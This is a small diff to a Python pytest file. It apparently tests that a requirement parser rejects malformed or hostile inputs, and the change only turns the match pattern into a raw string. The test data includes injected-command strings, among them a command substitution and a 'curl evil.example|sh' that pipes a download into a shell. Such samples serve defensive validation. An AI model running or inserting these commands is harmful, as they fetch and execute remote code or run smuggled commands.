@@ -98,7 +98,7 @@ def test_the_header_read_here_is_the_one_that_the_standard_reader_gives() -> Non
     "text", ["$(touch /tmp/x)", 'x"; curl evil.example|sh #', "x @ https://evil.example/x.zip", "", "-r evil.txt", "a b"]
 )
 def test_what_is_no_requirement_never_becomes_one(text: str) -> None:
-    with pytest.raises(ValueError, match="is no requirement such as|names an address"):
+    with pytest.raises(ValueError, match=r"is no requirement such as|names an address"):
         check_requirement(text)
 
 
